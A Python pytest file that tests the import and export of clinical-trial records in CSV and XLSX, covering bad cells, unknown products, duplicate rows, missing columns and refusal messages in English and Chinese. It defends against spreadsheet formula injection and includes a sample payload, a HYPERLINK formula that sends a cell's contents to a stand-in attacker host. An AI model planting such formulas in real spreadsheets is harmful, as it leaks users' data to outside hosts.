"""Attacks on trials in the CSV and XLSX exchange: a bad identifier, date or kind, an unknown product or
track, the same trial twice, columns left out or half given, and formulas in the text.  A refused file
changes nothing and names the row, the column, the value and the reason in both languages."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from mscreg.cli.main import main
from mscreg.services.exchange.exporting import export_database
from mscreg.services.exchange.importing import import_file
from mscreg.services.exchange.records import ImportRefused
from mscreg.services.trial_records import import_trials
from mscreg.services.workspace import open_workspace
from mscreg.storage import repositories as repo

FIXTURES = Path(__file__).parents[1] / "fixtures" / "ctgov"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def _state(db: Path) -> tuple[list[tuple], int]:
    con = sqlite3.connect(db)
    try:
        return con.execute("SELECT * FROM trials ORDER BY id").fetchall(), \
            con.execute("SELECT count(*) FROM audit_log").fetchone()[0]
    finally:
        con.close()


@pytest.fixture
def held(seeded_db):
    """The fixture's five trials held, and their export as a trials CSV: (database, header, rows)."""
    ws = open_workspace(str(seeded_db))
    try:
        import_trials(ws, FIXTURES / "studies_v2.json")
        out = seeded_db.parent / "all.csv"
        result = export_database(ws, "csv", out)
    finally:
        ws.close()
    rows = list(csv.reader(io.StringIO(Path(result.trials_file).read_text(encoding="utf-8-sig"), newline="")))
    return seeded_db, rows[0], rows[1:]


def _write(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows([header, *rows])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _set(header: list[str], row: list[str], **cells: str) -> list[str]:
    row = list(row)
    for name, value in cells.items():
        row[header.index(name)] = value
    return row


def _refused(db: Path, path: Path) -> ImportRefused:
    before = _state(db)
    ws = open_workspace(str(db))
    try:
        with pytest.raises(ImportRefused) as caught:
            import_file(ws, path)
    finally:
        ws.close()
    assert _state(db) == before
    return caught.value


def _cli(capsys, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize(("cells", "column", "value", "zh_field"), [
    ({"registry_id": "NCT123"}, "registry_id", "NCT123", "登记号"),
    ({"start_date": "2024-13"}, "start_date", "2024-13", "开始日期"),
    ({"start_date_kind": "soon"}, "start_date_kind", "soon", "开始日期"),
    ({"enrolment": "12.5"}, "enrolment", "12.5", "受试者人数"),
    ({"phases": "PHASE9"}, "phases", "PHASE9", "分期"),
    ({"registry": "nowhere"}, "registry", "nowhere", "登记平台"),
    ({"results_posted": "maybe"}, "results_posted", "maybe", "已公布结果"),
])
def test_a_bad_cell_refuses_the_file_naming_row_column_value_and_reason_in_both_languages(
        capsys, held, cells, column, value, zh_field):
    db, header, rows = held
    rows[2] = _set(header, rows[2], **cells)
    path = _write(db.parent / "bad-trials.csv", header, rows)
    refused = _refused(db, path)
    assert len(refused.issues) == 1
    issue = refused.issues[0]
    assert (issue.row, issue.value) == (4, value)
    assert issue.column.endswith(f"({column})")
    before = _state(db)
    for lang, row, name in (("en", "row 4", column), ("zh_CN", "第 4 行", zh_field)):
        code, _, err = _cli(capsys, "import", str(path), "--db", str(db), "--lang", lang)
        assert code == 2 and row in err and value in err and name in err and "Traceback" not in err
    assert _state(db) == before


def test_an_unknown_product_or_track_refuses_a_new_trial(held, tmp_path):
    db, header, rows = held
    new = _set(header, rows[0], registry_id="NCT09999991", product="No Such Product")
    track = _set(header, rows[0], registry_id="NCT09999992", product="Ryoncil", track_jurisdiction="US",
                 track_indication="no such indication", track_pathway="clinical")
    refused = _refused(db, _write(tmp_path / "t.csv", header, [new, track]))
    found = {(i.row, i.problem.code, i.value) for i in refused.issues}
    assert found == {(2, "product.not_found", "No Such Product"),
                     (3, "track.not_found", "US / no such indication / clinical")}


def test_a_track_needs_all_its_key_and_a_product(held, tmp_path):
    db, header, rows = held
    half = _set(header, rows[0], registry_id="NCT09999991", product="Ryoncil", track_jurisdiction="US")
    orphan = _set(header, rows[0], registry_id="NCT09999992", track_jurisdiction="US",
                  track_indication="steroid-refractory acute GVHD (paediatric)", track_pathway="clinical")
    refused = _refused(db, _write(tmp_path / "t.csv", header, [half, orphan]))
    assert {(i.row, i.problem.code) for i in refused.issues} == {(2, "trials.track_incomplete"),
                                                                  (3, "trials.track_needs_product")}


def test_the_same_trial_twice_in_a_file_is_refused_with_both_rows(held, tmp_path):
    db, header, rows = held
    again = _set(header, rows[1], title="Another title")
    refused = _refused(db, _write(tmp_path / "t.csv", header, [*rows, again]))
    (issue,) = refused.issues
    # rows are file rows 2… (the header is row 1); the repeated one is appended last
    assert (issue.row, issue.problem.code, issue.value) == (len(rows) + 2, "import.duplicate_row", rows[1][1])
    assert "row 3" in issue.message("en") and "第 3 行" in issue.message("zh_CN")


def test_a_column_left_out_keeps_the_value_an_empty_cell_clears_it_and_dry_run_shows_both(capsys, held, tmp_path):
    db, header, rows = held
    keep = [c for c in header if c not in ("status", "title")]
    studied = next(r for r in rows if r[header.index("registry_id")] == "NCT06431152")  # as the fixture gives it
    row = _set(header, studied, completion="", completion_kind="", acronym="SEV-KOA")
    path = _write(tmp_path / "partial.csv", keep, [[row[header.index(c)] for c in keep]])
    before = _state(db)
    code, out, err = _cli(capsys, "import", str(path), "--db", str(db), "--dry-run")
    assert code == 0, err
    assert "completion: “2026-06-30 (estimated)” → “”" in out and "acronym: “” → “SEV-KOA”" in out
    assert "status" not in out.split("NCT06431152", 1)[1]
    assert _state(db) == before
    assert _cli(capsys, "import", str(path), "--db", str(db))[0] == 0
    ws = open_workspace(str(db))
    try:
        with ws.db.read() as s:
            t = repo.find_trial(s, *next((x.registry, x.registry_id) for x in repo.list_trials(s)
                                         if x.registry_id == "NCT06431152"))
    finally:
        ws.close()
    assert t is not None
    assert (t.completion, t.acronym, t.status.value if t.status else None) == (None, "SEV-KOA", "RECRUITING")
    assert t.title.startswith("Umbilical Cord MSC")


def test_a_kind_without_its_date_or_a_track_without_the_product_column_is_refused_by_header(held, tmp_path):
    db, header, rows = held
    keep = [c for c in header if c not in ("start_date", "product")]
    refused = _refused(db, _write(tmp_path / "h.csv", keep, [[r[header.index(c)] for c in keep] for r in rows]))
    assert {(i.row, i.problem.code, i.value) for i in refused.issues} == {
        (1, "import.header_missing", "start_date"), (1, "import.header_missing", "product")}


def test_a_new_trial_without_a_title_column_is_refused(held, tmp_path):
    db, header, rows = held
    keep = [c for c in header if c != "title"]
    row = _set(header, rows[0], registry_id="NCT09999993")
    refused = _refused(db, _write(tmp_path / "t.csv", keep, [[row[header.index(c)] for c in keep]]))
    assert [(i.row, i.problem.code, i.problem.field) for i in refused.issues] == [(2, "text.empty", "title")]


def test_formulas_in_trial_text_are_exported_as_text_and_come_back_unchanged(held, tmp_path):
    from openpyxl import load_workbook

    db, header, rows = held
    rows[0] = _set(header, rows[0], title=FORMULA, lead_sponsor="@SUM(1+1)", interventions="-2+3\n=1+1")
    ws = open_workspace(str(db))
    try:
        import_file(ws, _write(tmp_path / "evil.csv", header, rows))
        with ws.db.read() as s:
            evil = next(t for t in repo.list_trials(s) if t.registry_id == rows[0][1])
        assert (evil.title, evil.lead_sponsor, evil.interventions) == (FORMULA, "@SUM(1+1)", ("-2+3", "=1+1"))
        result = export_database(ws, "csv", tmp_path / "out.csv")
        exported = Path(result.trials_file).read_text(encoding="utf-8-sig")
        cells = next(r for r in csv.reader(io.StringIO(exported, newline="")) if r[1] == rows[0][1])
        assert cells[header.index("title")] == "'" + FORMULA
        assert cells[header.index("lead_sponsor")] == "'@SUM(1+1)"
        assert cells[header.index("interventions")].startswith("'-2+3")
        export_database(ws, "xlsx", tmp_path / "out.xlsx")
        sheet = load_workbook(tmp_path / "out.xlsx")["trials"]
        titles = [c for c in sheet.iter_rows(min_row=2, values_only=True) if c[1] == rows[0][1]]
        assert titles[0][2] == "'" + FORMULA
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
        for f in (Path(result.trials_file), tmp_path / "out.xlsx"):
            assert not import_file(ws, f).changes_anything  # the quote is removed on the way back in
    finally:
        ws.close()


def test_a_bad_trial_in_a_workbook_refuses_its_other_sheets_too(held, tmp_path):
    from openpyxl import load_workbook

    db, header, _ = held
    ws = open_workspace(str(db))
    try:
        export_database(ws, "xlsx", tmp_path / "all.xlsx")
    finally:
        ws.close()
    book = load_workbook(tmp_path / "all.xlsx")
    book["products"]["L2"] = "A note the import would write"
    book["trials"].cell(row=3, column=header.index("start_date") + 1, value="2024-02-30")
    book.save(tmp_path / "bad.xlsx")
    refused = _refused(db, tmp_path / "bad.xlsx")
    (issue,) = refused.issues
    assert (issue.sheet, issue.row, issue.value) == ("trials", 3, "2024-02-30")
    assert issue.column.endswith("(start_date)")
